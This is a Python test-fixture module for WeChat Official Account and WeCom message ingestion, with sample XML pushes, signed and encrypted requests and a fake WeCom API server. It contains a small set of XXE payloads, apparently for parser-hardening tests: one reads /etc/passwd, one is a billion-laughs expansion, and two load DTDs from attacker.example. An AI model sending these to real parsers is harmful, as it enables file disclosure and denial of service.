"""Shared by the WeChat / WeCom tests: real-shaped payloads (the field layout of the
Official Account and WeCom docs), signed and encrypted requests built exactly as
Tencent builds them, and a local fake of the WeCom API that answers with the real
JSON shapes (`gettoken`, `kf/sync_msg`) and real error codes."""

from __future__ import annotations

import itertools
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web
from aiohttp.test_utils import TestServer

from connectors.wechat.crypto import MessageCrypto, signature
from ingest.testing import PushRequest

OA_TOKEN = "feedbackToken2024"
OA_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
OA_APP_ID = "wx5823bf96d3bd56c7"
OA_ACCOUNT = "gh_3a6b7f2d91c4"
OPENID = "oR5Gm0ZcXq1a2b3c4d5e6f7g8h9i"
CORP_ID = "ww1436e0e65a779aee"
KF_SECRET = "kf-secret-0123456789"
OPEN_KFID = "wkAJ2GCAAASSm4_FhToWMFea0xAFfd3Q"
_nonces = itertools.count(int(time.time() * 1000) % 10**9)

OA_OPTIONS: dict[str, Any] = {
    "token": OA_TOKEN,
    "app_id": OA_APP_ID,
    "encoding_aes_key": OA_KEY,
    "mode": "safe",
}


def oa_xml(msg_type: str, body: str, create_time: int = 1700000000) -> bytes:
    """An Official Account push as WeChat sends it (CDATA values, MsgId as digits)."""
    return (
        "<xml>"
        f"<ToUserName><![CDATA[{OA_ACCOUNT}]]></ToUserName>"
        f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>"
        f"<CreateTime>{create_time}</CreateTime>"
        f"<MsgType><![CDATA[{msg_type}]]></MsgType>"
        f"{body}"
        "</xml>"
    ).encode()


def oa_text(
    content: str, msg_id: str = "24373915622311712", create_time: int = 1700000000
) -> bytes:
    return oa_xml(
        "text", f"<Content><![CDATA[{content}]]></Content><MsgId>{msg_id}</MsgId>", create_time
    )


OA_SAMPLES: dict[str, bytes] = {
    "text": oa_text("信用卡被盗刷了三笔，客服电话一直打不通！"),
    "text_from_article": oa_xml(
        "text",
        "<Content><![CDATA[理财收益怎么算？]]></Content><MsgId>24373915622311713</MsgId>"
        "<MsgDataId>2247483652</MsgDataId><Idx>1</Idx>",
    ),
    "voice_recognised": oa_xml(
        "voice",
        "<MediaId><![CDATA[h5lD7gmX0ycmG2wvzMw2lJOVhw3b2dYbTz2FtYcQY3g]]></MediaId>"
        "<Format><![CDATA[amr]]></Format><MsgId>24373915622311714</MsgId>"
        "<Recognition><![CDATA[我的转账到现在还没到账]]></Recognition>",
    ),
    "voice": oa_xml(
        "voice",
        "<MediaId><![CDATA[media_voice_1]]></MediaId><Format><![CDATA[speex]]></Format>"
        "<MsgId>24373915622311715</MsgId>",
    ),
    "image": oa_xml(
        "image",
        "<PicUrl><![CDATA[http://mmbiz.qpic.cn/mmbiz_jpg/x/0]]></PicUrl>"
        "<MediaId><![CDATA[media_image_1]]></MediaId><MsgId>24373915622311716</MsgId>",
    ),
    "video": oa_xml(
        "video",
        "<MediaId><![CDATA[media_video_1]]></MediaId>"
        "<ThumbMediaId><![CDATA[thumb_1]]></ThumbMediaId><MsgId>24373915622311717</MsgId>",
    ),
    "shortvideo": oa_xml(
        "shortvideo",
        "<MediaId><![CDATA[media_sv_1]]></MediaId>"
        "<ThumbMediaId><![CDATA[thumb_2]]></ThumbMediaId><MsgId>24373915622311718</MsgId>",
    ),
    "location": oa_xml(
        "location",
        "<Location_X>31.230416</Location_X><Location_Y>121.473701</Location_Y><Scale>15</Scale>"
        "<Label><![CDATA[上海市黄浦区人民大道]]></Label><MsgId>24373915622311719</MsgId>",
    ),
    "link": oa_xml(
        "link",
        "<Title><![CDATA[网点服务问题反馈]]></Title><Description><![CDATA[详情]]></Description>"
        "<Url><![CDATA[https://example.com/a]]></Url><MsgId>24373915622311720</MsgId>",
    ),
    "file": oa_xml(
        "file",
        "<Title><![CDATA[流水.pdf]]></Title><MediaId><![CDATA[m_f]]></MediaId>"
        "<MsgId>24373915622311721</MsgId>",
    ),
}

OA_EVENTS: dict[str, bytes] = {
    "subscribe": oa_xml(
        "event",
        "<Event><![CDATA[subscribe]]></Event><EventKey><![CDATA[qrscene_123123]]></EventKey>"
        "<Ticket><![CDATA[TICKET]]></Ticket>",
    ),
    "unsubscribe": oa_xml("event", "<Event><![CDATA[unsubscribe]]></Event>"),
    "CLICK": oa_xml(
        "event", "<Event><![CDATA[CLICK]]></Event><EventKey><![CDATA[MENU_COMPLAIN]]></EventKey>"
    ),
    "VIEW": oa_xml(
        "event",
        "<Event><![CDATA[VIEW]]></Event><EventKey><![CDATA[https://example.com/m]]></EventKey>",
    ),
    "SCAN": oa_xml(
        "event",
        "<Event><![CDATA[SCAN]]></Event><EventKey><![CDATA[123123]]></EventKey>"
        "<Ticket><![CDATA[TICKET]]></Ticket>",
    ),
    "LOCATION": oa_xml(
        "event",
        "<Event><![CDATA[LOCATION]]></Event><Latitude>23.137466</Latitude>"
        "<Longitude>113.352425</Longitude><Precision>119.385040</Precision>",
    ),
}

XXE_PAYLOADS: dict[str, bytes] = {
    "external_entity": (
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<xml><ToUserName>gh_1</ToUserName><Content>&xxe;</Content></xml>"
    ),
    "billion_laughs": (
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b"<xml><Content>&lol3;</Content></xml>"
    ),
    "dtd_only": b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><A>1</A></xml>',
    "parameter_entity": (
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><xml/>'
    ),
}


def fresh() -> tuple[str, str]:
    return str(int(time.time())), str(next(_nonces))


def oa_request(
    message: bytes,
    *,
    mode: str = "safe",
    token: str = OA_TOKEN,
    crypto: MessageCrypto | None = None,
    timestamp: str | None = None,
    nonce: str | None = None,
) -> PushRequest:
    """A POST exactly as WeChat sends it in `mode` (plaintext / compatible / safe)."""
    ts, nc = fresh()
    ts, nc = timestamp or ts, nonce or nc
    query = {"signature": signature(token, ts, nc), "timestamp": ts, "nonce": nc}
    query["openid"] = OPENID
    if mode == "plaintext":
        return PushRequest("POST", query=query, body=message)
    crypto = crypto or MessageCrypto(token, OA_KEY, OA_APP_ID)
    encrypted, msg_signature = crypto.seal(message, ts, nc)
    query.update(encrypt_type="aes", msg_signature=msg_signature)
    inner = message[len(b"<xml>") : -len(b"</xml>")].decode() if mode == "compatible" else ""
    body = f"<xml><ToUserName><![CDATA[{OA_ACCOUNT}]]></ToUserName>{inner}"
    body += f"<Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>"
    return PushRequest("POST", query=query, body=body.encode())


# --- WeCom -------------------------------------------------------------------------

WECOM_TOKEN = "QDG6eK"
WECOM_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"


def wecom_options(api_base: str, **extra: Any) -> dict[str, Any]:
    return {
        "token": WECOM_TOKEN,
        "encoding_aes_key": WECOM_KEY,
        "corp_id": CORP_ID,
        "secret": KF_SECRET,
        "api_base": api_base,
        **extra,
    }


def kf_callback(
    open_kfid: str = OPEN_KFID, token: str = "ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR"
) -> bytes:
    """The decrypted `kf_msg_or_event` callback (微信客服 接收消息和事件)."""
    return (
        "<xml>"
        f"<ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        f"<CreateTime>{int(time.time())}</CreateTime>"
        "<MsgType><![CDATA[event]]></MsgType>"
        "<Event><![CDATA[kf_msg_or_event]]></Event>"
        f"<Token><![CDATA[{token}]]></Token>"
        f"<OpenKfId><![CDATA[{open_kfid}]]></OpenKfId>"
        "</xml>"
    ).encode()


def wecom_request(
    message: bytes,
    *,
    json_envelope: bool = False,
    timestamp: str | None = None,
    nonce: str | None = None,
    crypto: MessageCrypto | None = None,
) -> PushRequest:
    ts, nc = fresh()
    ts, nc = timestamp or ts, nonce or nc
    crypto = crypto or MessageCrypto(WECOM_TOKEN, WECOM_KEY, CORP_ID)
    encrypted, msg_signature = crypto.seal(message, ts, nc)
    query = {"msg_signature": msg_signature, "timestamp": ts, "nonce": nc}
    if json_envelope:
        body = f'{{"tousername": "{CORP_ID}", "encrypt": "{encrypted}", "agentid": 1000002}}'
    else:
        body = (
            f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
            f"<Encrypt><![CDATA[{encrypted}]]></Encrypt>"
            "<AgentID><![CDATA[1000002]]></AgentID></xml>"
        )
    return PushRequest("POST", query=query, body=body.encode())


def kf_text(
    msgid: str, content: str, origin: int = 3, send_time: int = 1700000100
) -> dict[str, Any]:
    return {
        "msgid": msgid,
        "open_kfid": OPEN_KFID,
        "external_userid": "wmAJ2GCAAAme1XQRC-NI-q0_ZM9ukoAw",
        "send_time": send_time,
        "origin": origin,
        "servicer_userid": "zhangsan" if origin == 5 else "",
        "msgtype": "text",
        "text": {"content": content, "menu_id": ""},
    }


def kf_page(rows: list[dict[str, Any]], next_cursor: str, has_more: int = 0) -> dict[str, Any]:
    return {
        "errcode": 0,
        "errmsg": "ok",
        "next_cursor": next_cursor,
        "has_more": has_more,
        "msg_list": rows,
    }


@dataclass
class FakeWecomApi:
    """A local WeCom API: `pages[open_kfid]` is served page by page after each cursor
    (cursor "" = the first page); tokens expire on demand (`expire_token()`)."""

    pages: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    secret: str = KF_SECRET
    calls: list[tuple[str, Mapping[str, Any]]] = field(default_factory=list)
    tokens_issued: int = 0
    _valid_token: str = ""
    server: TestServer | None = None

    @property
    def url(self) -> str:
        assert self.server is not None
        return str(self.server.make_url("")).rstrip("/")

    def expire_token(self) -> None:
        self._valid_token = "expired"

    async def start(self) -> FakeWecomApi:
        app = web.Application()
        app.router.add_get("/cgi-bin/gettoken", self._gettoken)
        app.router.add_post("/cgi-bin/kf/sync_msg", self._sync_msg)
        self.server = TestServer(app)
        await self.server.start_server()
        return self

    async def close(self) -> None:
        if self.server is not None:
            await self.server.close()

    async def _gettoken(self, request: web.Request) -> web.Response:
        self.calls.append(("gettoken", dict(request.query)))
        if request.query.get("corpid") != CORP_ID:
            return web.json_response({"errcode": 40013, "errmsg": "invalid corpid"})
        if request.query.get("corpsecret") != self.secret:
            return web.json_response({"errcode": 40001, "errmsg": "invalid credential"})
        self.tokens_issued += 1
        self._valid_token = f"ACCESS_TOKEN_{self.tokens_issued}"
        return web.json_response(
            {"errcode": 0, "errmsg": "ok", "access_token": self._valid_token, "expires_in": 7200}
        )

    async def _sync_msg(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.calls.append(("sync_msg", {**body, "access_token": request.query.get("access_token")}))
        if request.query.get("access_token") != self._valid_token:
            return web.json_response({"errcode": 42001, "errmsg": "access_token expired"})
        pages = self.pages.get(body.get("open_kfid", ""), [])
        cursor = body.get("cursor", "")
        index = 0 if not cursor else int(cursor.removeprefix("CURSOR_"))
        if index >= len(pages):
            return web.json_response(kf_page([], cursor or "CURSOR_0"))
        return web.json_response(pages[index])


def make_pages(*batches: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Pages whose cursors chain: page i says next_cursor CURSOR_{i+1}, has_more until
    the last."""
    return [
        kf_page(rows, f"CURSOR_{i + 1}", int(i + 1 < len(batches)))
        for i, rows in enumerate(batches)
    ]
